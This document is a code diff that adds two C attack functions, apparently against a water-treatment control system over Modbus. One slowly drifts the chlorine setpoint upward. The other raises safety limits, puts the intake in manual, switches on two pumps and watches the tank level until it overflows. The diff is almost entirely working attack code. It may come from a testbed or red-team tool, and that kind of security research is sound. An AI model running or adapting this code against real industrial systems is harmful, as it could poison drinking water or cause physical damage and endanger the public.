@@ -236,3 +236,45 @@ int attack_flap(struct visit *v)
 	link_close(&l);
 	return ok ? DONE : FAILED;
 }
+
+int attack_drift(struct visit *v)
+{
+	struct link l;
+	double value = variables[CHLORINE_SP].start;
+	bool ok = true;
+
+	if (!visit_open(v, &l, QUICK_MS))
+		return FAILED;
+	for (int i = 0; i < 30 && ok && clock_sleep_ms(1100); i++) {
+		value += 0.03;
+		ok = set(v, &l, CHLORINE_SP, value);
+	}
+	link_close(&l);
+	return ok ? DONE : FAILED;
+}
+
+int attack_overflow(struct visit *v)
+{
+	const uint16_t off[] = { 0 }, on[] = { 1, 1 };
+	struct link l;
+	uint16_t level = 0;
+	bool ok;
+
+	if (!visit_open(v, &l, QUICK_MS))
+		return FAILED;
+	ok = set(v, &l, RAW_HH_LIMIT, 100);
+	ok &= set(v, &l, RAW_STOP, 100);
+	ok &= link_do(&l, 1, 5, 3, 1, off);
+	say(v, "function 5: PLC1_AUTO (coil 3) off, the intake is in manual");
+	ok &= link_do(&l, 1, 15, 0, 2, on);
+	say(v, "function 15: P101 and P102 (coils 0 and 1) on");
+	for (int i = 0; i < 40 && ok && level < 985 && clock_sleep_ms(1000); i++) {
+		ok = link_count(&l, 4,
+				modbus_read_input_registers(l.modbus, variables[RAW_LEVEL].addr, 1,
+							    &level));
+		if (i % 4 == 0 || level >= 950)
+			say(v, "function 4: RAW_LEVEL is %.1f %%", level / 10.0);
+	}
+	link_close(&l);
+	return ok && level >= 950 ? DONE : FAILED;
+}
